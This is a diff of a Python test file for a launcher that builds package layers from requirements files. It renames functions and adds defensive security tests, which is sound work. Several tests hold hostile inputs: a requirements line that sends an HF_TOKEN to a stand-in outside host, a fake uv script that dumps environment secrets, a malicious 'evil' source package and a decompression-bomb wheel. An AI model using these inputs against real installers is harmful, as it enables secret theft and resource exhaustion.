@@ -3,6 +3,7 @@
 import hashlib
 import io
 import os
+import resource
 import sys
 import tarfile
 import threading
@@ -25,13 +26,14 @@ from launcher.machines.local import LocalNode
 from launcher.plan import layer
 from launcher.plan.code import Delivery
 from launcher.plan.layer import Environment
+from launcher.plan.requirements import read_requirements
 from launcher.watch import guards
 from launcher.workload import Requirements
 from launcher.workloads.script import Script
 from tests.unit.launcher.launcher_values import VERSIONS, codes, facts, host
 
 THERE = {"torch": "2.15.0", "nvidia-cublas": "13.2", "base": "1.0"}
-ENVIRONMENT = Environment.of("3.11.2", 36, THERE)
+ENVIRONMENT = Environment.from_facts("3.11.2", 36, THERE)
 
 
 def wheel(folder, name, version, needs=(), tag="py3-none-any", files=None):
@@ -43,7 +45,7 @@ def wheel(folder, name, version, needs=(), tag="py3-none-any", files=None):
     inside = files or {f"{name}.py": f"version = {version!r}\n"}
     inside.update({f"{stem}.dist-info/METADATA": about, f"{stem}.dist-info/WHEEL": made})
     listed = "".join(f"{one},,\n" for one in [*inside, f"{stem}.dist-info/RECORD"])
-    with zipfile.ZipFile(folder / f"{stem}-{tag}.whl", "w") as file:
+    with zipfile.ZipFile(folder / f"{stem}-{tag}.whl", "w", zipfile.ZIP_DEFLATED) as file:
         for one, text in {**inside, f"{stem}.dist-info/RECORD": listed}.items():
             file.writestr(one, text)
 
@@ -73,18 +75,18 @@ def index(tmp_path_factory):
 
 @pytest.fixture
 def asks(tmp_path):
-    """asks("tool", "part==0.5") -> a requirements.txt."""
+    """asks("tool", "part==0.5") -> what a requirements.txt of these lines asks for."""
 
     def write(*lines):
         path = tmp_path / "requirements.txt"
         path.write_text("".join(f"{line}\n" for line in lines))
-        return path
+        return read_requirements(path)
 
     return write
 
 
 def test_a_second_launcher_waits_and_finds_the_layer_made(asks, tmp_path, monkeypatch):
-    made_by, make = [], layer._make
+    made_by, make = [], layer.make_layer
 
     def make_slowly(*words):
         made_by.append(words)
@@ -92,10 +94,10 @@ def test_a_second_launcher_waits_and_finds_the_layer_made(asks, tmp_path, monkey
         return make(*words)
 
     monkeypatch.setattr(layer, "CACHE", tmp_path / "cache")
-    monkeypatch.setattr(layer, "_make", make_slowly)
+    monkeypatch.setattr(layer, "make_layer", make_slowly)
     wanted = asks("")
     with ThreadPoolExecutor() as pool:
-        made = [pool.submit(layer.of, wanted, ENVIRONMENT) for _ in range(2)]
+        made = [pool.submit(layer.build_layer, wanted, ENVIRONMENT) for _ in range(2)]
         assert made[0].result() == made[1].result()
     assert len(made_by) == 1
 
@@ -104,57 +106,20 @@ def test_a_disk_that_takes_no_layer_is_a_sentence(asks, tmp_path, monkeypatch):
     (tmp_path / "file").touch()
     monkeypatch.setattr(layer, "CACHE", tmp_path / "file/cache")
     with pytest.raises(UserError, match=r"could not be kept: .*/file/cache: Not a directory"):
-        layer.of(asks("tool"), ENVIRONMENT)
+        layer.build_layer(asks("tool"), ENVIRONMENT)
 
 
 def test_a_second_use_asks_uv_nothing(index, asks, monkeypatch):
-    first = layer.of(asks("tool"), ENVIRONMENT)
-    monkeypatch.setattr(layer.subprocess, "run", lambda *_, **__: pytest.fail("uv was asked"))
-    assert layer.of(asks("tool"), ENVIRONMENT) == first
+    first = layer.build_layer(asks("tool"), ENVIRONMENT)
+    monkeypatch.setattr(layer.subprocess, "Popen", lambda *_, **__: pytest.fail("uv was asked"))
+    assert layer.build_layer(asks("tool"), ENVIRONMENT) == first
     with pytest.raises(pytest.fail.Exception):  # another Python is another layer
-        layer.of(asks("tool"), Environment.of("3.12.1", 36, THERE))
+        layer.build_layer(asks("tool"), Environment.from_facts("3.12.1", 36, THERE))
     module, text = first.tree / "tool.py", (first.tree / "tool.py").read_text()
     module.write_text("changed")
     with pytest.raises(pytest.fail.Exception):  # and so is what somebody changed
-        layer.of(asks("tool"), ENVIRONMENT)
+        layer.build_layer(asks("tool"), ENVIRONMENT)
     module.write_text(text)
-
-
-def test_a_change_of_a_file_that_is_named_is_seen(asks, tmp_path):
-    base, limits = tmp_path / "more/base.txt", tmp_path / "more/limits.txt"
-    base.parent.mkdir()
-    base.write_text("part\n-climits.txt  # beside it\n-r ../requirements.txt\n")
-    limits.write_text("native==1.0\n")
-    wanted = asks("# --requirement none.txt", "--requirement=more/base.txt")
-    keys = [layer.key_of(wanted, ENVIRONMENT)]
-    for changed, text in ((limits, "native<2\n"), (base, "tool\n")):
-        changed.write_text(text)
-        keys.append(layer.key_of(wanted, ENVIRONMENT))
-    assert len(set(keys)) == 3
-
-
-@pytest.mark.parametrize(
-    ("line", "said"),
-    [
-        ("-r none.txt", r"none.txt cannot be read: No such file or directory\. Correct"),
-        ("-c https://192.0.2.1/limits.txt", "limits.txt is elsewhere, and a change"),
-        ("tool @ file:///srv/tool-1.0-py3-none-any.whl", "is a file of this machine"),
-        ("tool.whl ; python_version > '3'", "is a file of this machine"),
-        ("-e .", "only wheels are taken"),
-        ("-r 'a", "No closing quotation: correct the line"),
-    ],
-)
-def test_what_may_change_unseen_is_refused(asks, line, said):
-    with pytest.raises(UserError, match=said):
-        layer.key_of(asks("tool", line), ENVIRONMENT)
-
-
-def test_the_files_that_are_named_are_bounded(asks, tmp_path):
-    for number in range(64):
-        (tmp_path / f"{number}.txt").write_text(f"-r {number + 1}.txt\n")
-    (tmp_path / "64.txt").write_text("")
-    with pytest.raises(UserError, match="comes to more than 64 files"):
-        layer.key_of(asks("-r 0.txt"), ENVIRONMENT)
 
 
 @pytest.mark.parametrize(
@@ -168,7 +133,7 @@ def test_the_files_that_are_named_are_bounded(asks, tmp_path):
 def test_what_cannot_be_is_refused_by_name(index, asks, line, said):
     before = list(layer.CACHE.glob("*/layer.json"))
     with pytest.raises(UserError) as refused:
-        layer.of(asks(line), ENVIRONMENT)
+        layer.build_layer(asks(line), ENVIRONMENT)
     assert said in str(refused.value)
     assert "requirements.txt" in str(refused.value)
     assert "+stack" not in str(refused.value)
@@ -178,32 +143,47 @@ def test_what_cannot_be_is_refused_by_name(index, asks, line, said):
 def test_a_newer_package_lies_above_the_environments_and_a_wheel_for_a_newer_system_does_not(
     index, asks
 ):
-    found = layer.of(asks("newer", "native"), ENVIRONMENT).packages
+    found = layer.build_layer(asks("newer", "native"), ENVIRONMENT).packages
     assert found == {"newer": "1.0", "base": "9.0", "native": "1.0"}
     with pytest.raises(UserError, match="native have no wheels with a matching Python"):
-        layer.of(asks("native"), Environment.of("3.9", 28, THERE))
+        layer.build_layer(asks("native"), Environment.from_facts("3.9", 28, THERE))
 
 
 def test_packages_are_those_of_the_machines_processor(index, asks):
-    by_x86 = layer.of(asks("native"), ENVIRONMENT).packages
-    by_arm = layer.of(asks("native"), replace(ENVIRONMENT, architecture="aarch64")).packages
+    by_x86 = layer.build_layer(asks("native"), ENVIRONMENT).packages
+    by_arm = layer.build_layer(
+        asks("native"), replace(ENVIRONMENT, architecture="aarch64")
+    ).packages
     assert (by_x86, by_arm) == ({"native": "1.0"}, {"native": "1.5"})
 
 
-def test_hashes_are_held(index, asks):
-    own = hashlib.sha256((index / "part-0.5-py3-none-any.whl").read_bytes()).hexdigest()
-    made = layer.of(asks(f"part==0.5 --hash=sha256:{own}"), ENVIRONMENT)
-    assert made.packages == {"part": "0.5"}
+def sha256_of(path):
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def test_hashes_are_held(index, asks, tmp_path):
+    """Those of constraints, too; and a file with hashes names everything, as with pip."""
+    part = f"part==0.5 --hash=sha256:{sha256_of(index / 'part-0.5-py3-none-any.whl')}"
+    tool = f"tool==1.0 --hash=sha256:{sha256_of(index / 'tool-1.0-py3-none-any.whl')}"
+    assert layer.build_layer(asks(part, "base<2"), ENVIRONMENT).packages == {"part": "0.5"}
+    with pytest.raises(UserError, match="has hashes, but none for part"):
+        layer.build_layer(asks(tool), ENVIRONMENT)
+    (tmp_path / "limits.txt").write_text(f"part==0.5 --hash=sha256:{'0' * 64}\n")
+    with pytest.raises(UserError, match=r"[Hh]ash mismatch"):
+        layer.build_layer(asks("tool", "-c limits.txt"), ENVIRONMENT)
+    (tmp_path / "limits.txt").write_text("part<0.5\nunused==1\n")
+    with pytest.raises(UserError, match=r"part<0\.5"):
+        layer.build_layer(asks(tool, part, "-c limits.txt"), ENVIRONMENT)
 
 
 def test_what_was_gathered_needs_no_index(index, asks, tmp_path, monkeypatch):
     wanted = asks("tool")
-    folder = layer.bundle(wanted, ENVIRONMENT)
+    folder = layer.bundle_layer(wanted, ENVIRONMENT)
     # What the environment has is not taken again.
     assert {path.stem for path in (folder / "tree").glob("*.py")} == {"tool", "part"}
     monkeypatch.setenv("PIP_FIND_LINKS", str(tmp_path))
     monkeypatch.setattr(layer, "CACHE", tmp_path / "cache")
-    made = layer.of(wanted, ENVIRONMENT)
+    made = layer.build_layer(wanted, ENVIRONMENT)
     assert made.packages == {"tool": "1.0", "part": "0.5"} and {"tool", "part"} <= made.modules()
 
 
@@ -211,14 +191,14 @@ def test_layers_that_nobody_used_are_thrown_away(index, asks):
     old, past = layer.CACHE / "old", time.time() - 31 * 86400
     old.mkdir()
     os.utime(old, (past, past))
-    used = layer.of(asks("tool"), ENVIRONMENT)
+    used = layer.build_layer(asks("tool"), ENVIRONMENT)
     os.utime(used.tree.parent, (past, past))
-    assert layer.of(asks("tool"), ENVIRONMENT) == used  # which renews it
+    assert layer.build_layer(asks("tool"), ENVIRONMENT) == used  # which renews it
     assert used.tree.exists() and not old.exists()
 
 
 def test_machines_get_the_same_files_once(index, asks, tmp_path):
-    made = layer.of(asks("tool"), ENVIRONMENT)
+    made = layer.build_layer(asks("tool"), ENVIRONMENT)
     said, hosts = [], []
     for number in (1, 2):
         node_dir = str(tmp_path / f"node{number}")
@@ -245,7 +225,9 @@ def judged(script, *environments):
     known = {f"node{n}": facts(n, **one) for n, one in enumerate(environments, 1)}
     machines = OpenMachines([host(n) for n, _ in enumerate(known, 1)], {}, known)
     asked = Requirements(Config(data=""), script.for_machines(machines))
-    with mock.patch.object(layer, "of", side_effect=AssertionError("a look makes no layer")):
+    with mock.patch.object(
+        layer, "build_layer", side_effect=AssertionError("a look makes no layer")
+    ):
         for _ in range(2):
             script.for_machines(machines)
             wrong = judge.problems(machines, asked, look.control_machine_facts(asked))
@@ -280,14 +262,19 @@ def source(folder, name):
 
 @pytest.fixture(scope="module")
 def sources(tmp_path_factory):
-    """A project's own folder of packages, served over loopback too."""
-    folder = tmp_path_factory.mktemp("sources")
+    """A project's own folder of packages, served over loopback too: the folder, its address, and
+    the paths that were asked for."""
+    folder, paths = tmp_path_factory.mktemp("sources"), []
     source(folder, "evil")
     wheel(folder, "leads", "1.0", [f"evil @ {(folder / 'evil-1.0.tar.gz').as_uri()}"])
-    handler = partial(SimpleHTTPRequestHandler, directory=str(folder))
-    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+
+    class Handler(SimpleHTTPRequestHandler):
+        def log_message(self, *_):
+            paths.append(self.path)
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(folder)))
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield folder, f"http://127.0.0.1:{server.server_port}"
+    yield folder, f"http://127.0.0.1:{server.server_port}", paths
     server.shutdown()
     server.server_close()
 
@@ -296,6 +283,9 @@ def sources(tmp_path_factory):
     "lines",
     [
         ["evil", "--no-binary evil", "--find-links {folder}"],
+        ["\ufeff--no-binary evil", "evil", "--find-links {folder}"],
+        ["# for all of us \\", "--no-binary evil", "evil", "--find-links {folder}"],
+        ["--pre # newest \\", "--no-binary evil", "evil", "--find-links {folder}"],
         ["evil", "--only-binary :none:", "--no-index --find-links={folder}"],
         ["evil @ {url}/evil-1.0.tar.gz"],
         ["{url}/evil-1.0.tar.gz#egg=evil"],
@@ -305,30 +295,55 @@ def sources(tmp_path_factory):
     ],
 )
 def test_no_line_of_a_project_has_anything_built_here(index, asks, sources, lines):
-    folder, url = sources
+    folder, url, _ = sources
     (folder / "evil ran").unlink(missing_ok=True)
-    sha = hashlib.sha256((folder / "evil-1.0.tar.gz").read_bytes()).hexdigest()
-    wanted = asks(*(line.format(folder=folder, url=url, sha=sha) for line in lines))
+    sha = sha256_of(folder / "evil-1.0.tar.gz")
     with pytest.raises(UserError) as refused:
-        layer.of(wanted, ENVIRONMENT)
+        layer.build_layer(
+            asks(*(line.format(folder=folder, url=url, sha=sha) for line in lines)), ENVIRONMENT
+        )
     assert not (folder / "evil ran").exists()
     assert any(name in str(refused.value) for name in ("evil", "--only-binary :none:"))
 
 
-def test_the_file_beside_the_script_is_found_and_another_can_be_named(tmp_path):
-    inner = tmp_path / "tools"
-    inner.mkdir()
-    assert layer.beside([inner, tmp_path], None) is None
-    (tmp_path / "requirements.txt").write_text("")
-    assert layer.beside([inner, tmp_path], None) == tmp_path / "requirements.txt"
-    (tmp_path / "more.txt").write_text("")
-    assert layer.beside([inner], str(tmp_path / "more.txt")) == tmp_path / "more.txt"
-    with pytest.raises(UserError, match="there is no file"):
-        layer.beside([inner], str(tmp_path / "none.txt"))
+def test_no_variable_reaches_a_project_s_author(index, asks, tmp_path, monkeypatch):
+    with pytest.raises(UserError, match=r"index-url https://192\.0\.2\.1/\$\{HF_TOKEN\}"):
+        asks("tool", "--extra-index-url https://192.0.2.1/${HF_TOKEN}")
+    asks("tool  # needs ${HF_TOKEN}")
+    # Nor by the metadata of a wheel, in whose addresses uv replaces variables in capitals.
+    monkeypatch.setenv("HF_TOKEN", "secret")
+    monkeypatch.setenv("HTTPS_PROXY", "http://me:secret@192.0.2.1")
+    uv = tmp_path / "uv"
+    uv.write_text(
+        '#!/bin/sh\nenv | grep -E "^[A-Z0-9_]+=" >&2; env | grep -c proxy=.*secret >&2; exit 1'
+    )
+    uv.chmod(0o755)
+    monkeypatch.setattr(layer.sys, "executable", str(tmp_path / "python"))
+    with pytest.raises(UserError, match=r"\b1:") as failed:
+        layer.build_layer(asks("# nothing"), ENVIRONMENT)
+    assert "UV_CACHE_DIR" in str(failed.value) and "secret" not in str(failed.value)
+
+
+def test_a_file_s_own_index_holds_in_each_step(index, asks, sources, monkeypatch):
+    _, url, paths = sources
+    monkeypatch.delenv("PIP_NO_INDEX")
+    monkeypatch.setenv("PIP_INDEX_URL", url)
+    made = layer.build_layer(asks("part", "--no-index"), ENVIRONMENT)
+    assert (made.packages, paths) == ({"part": "0.5"}, [])
+
+
+def test_a_small_wheel_does_not_fill_the_disk(index, asks, monkeypatch):
+    wheel(index, "bomb", "1.0", files={"bomb.bin": bytes(200 << 20)})
+    monkeypatch.setattr(layer, "MAX_BYTES", 20 << 20)
+    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_oublock
+    with pytest.raises(UserError, match="need more than 20 MiB"):
+        layer.build_layer(asks("bomb"), ENVIRONMENT)
+    blocks = resource.getrusage(resource.RUSAGE_CHILDREN).ru_oublock - before
+    assert blocks * 512 < 120 << 20
 
 
 @pytest.mark.parametrize("name", ["../../x", "a\nb", "", "-r"])
 def test_of_a_name_that_no_package_has_no_file_is_made(name):
-    assert Environment.of("3.11", 36, {name: "1", "Real_Name.x": "2"}).packages == (
+    assert Environment.from_facts("3.11", 36, {name: "1", "Real_Name.x": "2"}).packages == (
         ("real-name-x", "2"),
     )
